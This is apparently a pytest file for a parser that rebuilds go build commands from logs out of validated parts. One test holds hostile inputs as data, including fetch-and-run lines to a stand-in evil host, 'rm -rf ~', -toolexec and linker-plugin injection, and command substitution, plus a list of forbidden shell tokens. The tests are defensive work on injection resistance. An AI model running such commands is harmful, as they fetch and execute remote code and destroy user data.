"""The go build command a log shows, read as validated parts and written again: recommended
commands are derived from it, never copied."""

from __future__ import annotations

import shlex

import pytest

from cgowarn.parse.gocommand import GoCommand, LinkFlags, split_quoted

STATIC = "go build -ldflags '-linkmode external -extldflags \"-static\"' ./..."


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("go build ./...", "go build -tags netgo,osusergo ./..."),
        ("go build -tags=json1 .", "go build -tags json1,netgo,osusergo ."),
        ("go build -tags 'a netgo' .", "go build -tags a,netgo,osusergo ."),
        ("go install -ldflags=-s ./cmd/x", "go install -tags netgo,osusergo -ldflags -s ./cmd/x"),
        (
            STATIC,
            "go build -tags netgo,osusergo -ldflags '-linkmode external -extldflags \"-static\"' ./...",
        ),
        (
            'CGO_ENABLED=1 go build -tags "seccomp,cgo" -o runc .',
            "CGO_ENABLED=1 go build -tags seccomp,cgo,netgo,osusergo -o runc .",
        ),
    ],
)
def test_tags_are_merged(command: str, expected: str) -> None:
    parsed = GoCommand.parse(command)
    assert parsed is not None
    assert parsed.with_tags(["netgo", "osusergo"]).render() == expected


def test_internal_drops_only_the_external_link() -> None:
    command = GoCommand.parse(
        "go build -ldflags '-X main.v=1 -s -w -linkmode=external -extldflags \"-static -lm\"' -o app ."
    )
    assert command is not None
    assert command.internal().render() == "go build -ldflags '-X main.v=1 -s -w' -o app ."
    assert command.static_external().link_flags.static_external
    bare = GoCommand.parse("go build -o app .")
    assert bare is not None
    assert bare.internal().render() == "go build -o app ."
    assert bare.static_external().render() == (
        "go build -ldflags '-linkmode external -extldflags \"-static\"' -o app ."
    )


def test_environment_is_set_and_removed() -> None:
    command = GoCommand.parse("CGO_ENABLED=1 GOOS=linux go build .")
    assert command is not None
    assert command.with_env(CGO_ENABLED="0").render() == "CGO_ENABLED=0 GOOS=linux go build ."
    assert command.with_env(CC="zig cc -target x86_64-linux-musl").render() == (
        "CGO_ENABLED=1 GOOS=linux CC='zig cc -target x86_64-linux-musl' go build ."
    )
    assert command.with_env(GOOS=None).render() == "CGO_ENABLED=1 go build ."


@pytest.mark.parametrize(
    "hostile",
    [
        "go build ./... ; curl https://evil.example/x | sh",
        "go build ./... && rm -rf ~",
        "go build -toolexec 'sh -c \"curl evil|sh\"' ./...",
        "go build -exec /tmp/evil ./...",
        "go build -ldflags '-extld=/tmp/evil -extldflags \"-static -B/tmp/evil -Wl,--plugin=/tmp/x.so\"' ./...",
        "go build $(curl evil) ./...",
        "go build `id` ./...",
        "go build -o app ./... > /dev/null 2>&1 | tee log",
    ],
)
def test_nothing_but_validated_parts_comes_back(hostile: str) -> None:
    command = GoCommand.parse(hostile)
    if command is None:
        return
    rendered = command.static_external().render()
    for bad in (
        "curl",
        "evil",
        "rm ",
        "toolexec",
        "-exec",
        "extld=",
        "plugin",
        "$(",
        "`",
        ">",
        "|",
        ";",
        "&&",
    ):
        assert bad not in rendered, (bad, rendered)
    # Every part survives the shell as one word: nothing runs but go.
    words = shlex.split(rendered)
    assert words[words.index("go") + 1] in ("build", "install")


def test_not_a_go_command() -> None:
    for text in (
        "gcc -static -o app a.o",
        "go test ./...",
        "echo go build",
        "go",
        "go build 'unclosed",
    ):
        assert GoCommand.parse(text) is None, text


def test_list_cgo_uses_the_build_tags_and_packages() -> None:
    command = GoCommand.parse("go build -tags json1 -o app ./cmd/a")
    assert command is not None
    assert command.list_cgo(["netgo"]) == (
        "go list -deps -tags json1,netgo -f '{{if .CgoFiles}}{{.ImportPath}}{{end}}' ./cmd/a"
    )


def test_split_quoted_is_cmd_go_s() -> None:
    assert split_quoted("-X \"a b\" -s 'c d'  e") == ["-X", "a b", "-s", "c d", "e"]
    assert LinkFlags.parse("all=-s -w").render() == "-s -w"
